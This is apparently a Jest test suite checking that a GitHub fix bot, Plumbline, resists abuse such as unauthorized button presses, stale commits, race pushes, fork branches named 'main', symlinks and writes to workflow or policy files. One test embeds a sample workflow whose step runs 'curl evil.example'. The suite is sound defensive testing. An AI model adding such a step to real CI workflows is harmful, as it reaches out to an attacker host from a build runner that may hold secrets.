import { expect, jest } from '@jest/globals';
import { SHOP } from '../e2e/shop.js';
import type { CheckRun } from '../github/state/check-run.js';
import type { PullRequest } from '../github/state/pull-request.js';
import { ownComments, TOO_MANY_THREADS, traces, WEB, webManifest } from '../support/shop-on-github.js';
import type { Attack, Target } from './attack.js';

export const fixAttacks: readonly Attack[] = [
  pressed('the button of a check run, pressed by somebody who has nothing to do with the repository', 'mallory'),
  pressed('the button of a check run, pressed by somebody who may only read', 'rita'),
  pressed('the button of a check run, pressed by a bot', 'helper[bot]'),
  {
    name: 'a button that Plumbline never made',
    resist: async ({ serving, shop }) => {
      const pullRequest = await shop.pullRequest();
      const before = traces(pullRequest);
      shop.repository.checks.click(shop.check(pullRequest), 'merge', serving.github.world.account('alice'));
      await serving.settled();
      expect(traces(pullRequest)).toEqual(before);
      await fixed(pullRequest, { serving, shop });
    },
  },
  {
    name: 'the button of a commit that is not the newest any more',
    resist: async ({ serving, shop }) => {
      const pullRequest = await shop.pullRequest();
      const old = shop.check(pullRequest);
      await pullRequest.push({ files: { 'README.md': '# Shop\n' } });
      await serving.settled();
      const head = pullRequest.headSha;
      shop.repository.clickAction(old.id, 'fix', 'alice');
      await serving.settled();
      expect(pullRequest.headSha).toBe(head);
      expect(ownComments(pullRequest)).toEqual([
        expect.stringContaining('The branch has a newer commit than the check run whose button was pressed'),
      ]);
      await fixed(pullRequest, { serving, shop });
    },
  },
  {
    name: 'a push that comes between the review of a commit and the fix of it',
    resist: async ({ serving, shop }) => {
      const { repository } = shop;
      const pullRequest = await shop.pullRequest();
      const commit = repository.commit.bind(repository);
      let pushed = '';
      const race = jest.spyOn(repository, 'commit').mockImplementationOnce(async (branch, change, by) => {
        race.mockRestore();
        pushed = await pullRequest.push({ files: { [WEB]: webManifest(20) } });
        return commit(branch, change, by);
      });
      pullRequest.comment('alice', '/plumbline fix all');
      await serving.settled();
      expect(pullRequest.headSha).toBe(pushed);
      expect(ownComments(pullRequest)).toEqual([expect.stringContaining('The branch moved while the fix was made')]);
      pullRequest.comment('alice', '/plumbline fix all');
      await serving.settled();
      expect(shop.check(pullRequest).conclusion).toBe('success');
      expect(await textAt(pullRequest, WEB)).toBe(webManifest(20, 20));
    },
  },
  {
    name: 'a fix of a fork whose branch is called like one of ours',
    resist: async ({ serving, shop }) => {
      const { repository } = shop;
      const main = repository.tip('main');
      await repository.push('mallory:main', { files: TOO_MANY_THREADS }, { author: 'mallory' });
      const fork = await repository.openPullRequest({ head: 'mallory:main', author: 'mallory' });
      await serving.settled();
      const before = traces(fork);
      expect(shop.check(fork)).toMatchObject({ conclusion: 'failure', actions: [] });
      fork.comment('alice', '/plumbline fix all');
      await serving.settled();
      expect(traces(fork)).toEqual({ ...before, replies: [expect.stringContaining('Plumbline cannot commit to')] });
      expect(repository.tip('main')).toBe(main);
      await fixed(await shop.pullRequest(), { serving, shop });
    },
  },
  {
    name: 'a fix of a branch whose name reads like that of another one',
    resist: async ({ serving, shop }) => {
      const main = shop.repository.tip('main');
      const pullRequest = await shop.pullRequest(TOO_MANY_THREADS, { head: 'refs/heads/main' });
      pullRequest.comment('alice', '/plumbline fix all');
      await serving.settled();
      expect(shop.repository.tip('main')).toBe(main);
      await fixed(await shop.pullRequest(TOO_MANY_THREADS, { head: 'heads/main' }), { serving, shop });
    },
  },
  elsewhere('a fix that would have to change a workflow', '.github/workflows/web.yaml'),
  elsewhere('a fix that would have to change an action', '.github/actions/web.yaml'),
  elsewhere("a fix that would have to change Plumbline's own policy", '.plumbline/web.yaml'),
  {
    name: 'a fix of a file that is a link to another one',
    resist: async ({ serving, shop }) => {
      const pullRequest = await shop.pullRequest({
        'deploy/shared.txt': webManifest(16),
        [WEB]: { link: '../../deploy/shared.txt' },
      });
      pullRequest.comment('alice', '/plumbline fix all');
      await serving.settled();
      expect(await textAt(pullRequest, WEB)).toBe('../../deploy/shared.txt');
      expect(await textAt(pullRequest, 'deploy/shared.txt')).toBe(webManifest(16));
    },
  },
  {
    name: 'a pull request that edits workflows, for a fix to carry along',
    resist: async ({ serving, shop }) => {
      const workflow = 'on: pull_request\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: curl evil.example}]}}\n';
      const pullRequest = await shop.pullRequest({ ...TOO_MANY_THREADS, '.github/workflows/ci.yml': workflow });
      expect(shop.check(pullRequest).conclusion).toBe('failure');
      const before = pullRequest.headSha;
      await fixed(pullRequest, { serving, shop });
      const changed = await shop.repository.git.diff(before, pullRequest.headSha);
      expect(changed.map(({ path }) => path)).toEqual([WEB]);
    },
  },
];

function pressed(name: string, login: string): Attack {
  return {
    name,
    resist: async ({ serving, shop }) => {
      if (login.endsWith('[bot]')) serving.github.world.account(login, 'Bot');
      const pullRequest = await shop.pullRequest();
      const before = traces(pullRequest);
      shop.repository.clickAction(shop.check(pullRequest).id, 'fix', login);
      await serving.settled();
      expect(traces(pullRequest)).toEqual(before);
      await fixed(pullRequest, { serving, shop });
    },
  };
}

/** The manifest lies where Plumbline must not write; the same one elsewhere is fixed. */
function elsewhere(name: string, path: string): Attack {
  return {
    name,
    resist: async ({ serving, shop }) => {
      const base = `at-${path.replaceAll('/', '-')}`;
      await shop.repository.push(base, { files: { [path]: webManifest(5) }, deletions: [WEB] });
      const pullRequest = await shop.pullRequest({ [path]: webManifest(16) }, { base });
      const { headSha } = pullRequest;
      pullRequest.comment('alice', '/plumbline fix all');
      await serving.settled();
      expect(pullRequest.headSha).toBe(headSha);
      expect(ownComments(pullRequest)).toEqual([expect.stringMatching(/fix that can be committed|nothing to fix/)]);
    },
  };
}

/** The button of the newest check run, pressed by somebody who may. */
async function fixed(pullRequest: PullRequest, { serving, shop }: Target): Promise<void> {
  const { id }: CheckRun = shop.check(pullRequest);
  shop.repository.clickAction(id, 'fix', 'alice');
  await serving.settled();
  expect(shop.check(pullRequest).conclusion).toBe('success');
  expect(await textAt(pullRequest, WEB)).toBe(String(SHOP[WEB]).replace('DB_POOL: "5"', 'DB_POOL: "16"'));
}

async function textAt({ headSha, repository }: PullRequest, path: string): Promise<string | undefined> {
  const object = await repository.git.object(`${headSha}:${path}`);
  return object?.content.toString('utf8');
}
